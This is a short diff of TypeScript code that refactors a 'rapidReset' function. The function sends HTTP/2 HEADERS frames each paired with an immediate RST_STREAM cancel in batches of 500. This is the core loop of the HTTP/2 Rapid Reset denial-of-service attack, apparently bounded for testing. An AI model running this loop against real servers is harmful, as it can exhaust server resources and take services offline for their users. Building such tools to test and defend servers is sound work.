@@ -82,12 +82,14 @@ export async function rapidReset(
   let pairs = 0;
   let stream = 1;
   try {
-    await conn.write(Uint8Array.from([...PREFACE, ...frame(FrameType.SETTINGS, 0, 0)]));
+    await conn.write(
+      Uint8Array.from([...PREFACE, ...frame({ type: FrameType.SETTINGS, flags: 0, stream: 0 })]),
+    );
     while (pairs < maxPairs && goaway === undefined && !closed && Date.now() < until) {
       const batch: Uint8Array[] = [];
       for (let i = 0; i < 500 && pairs < maxPairs; i++, pairs++, stream += 2) {
-        batch.push(frame(FrameType.HEADERS, 0x4, stream, CALL));
-        batch.push(frame(FrameType.RST_STREAM, 0, stream, CANCEL));
+        batch.push(frame({ type: FrameType.HEADERS, flags: 0x4, stream }, CALL));
+        batch.push(frame({ type: FrameType.RST_STREAM, flags: 0, stream }, CANCEL));
       }
       const bytes = new Uint8Array(batch.reduce((sum, f) => sum + f.length, 0));
       let at = 0;
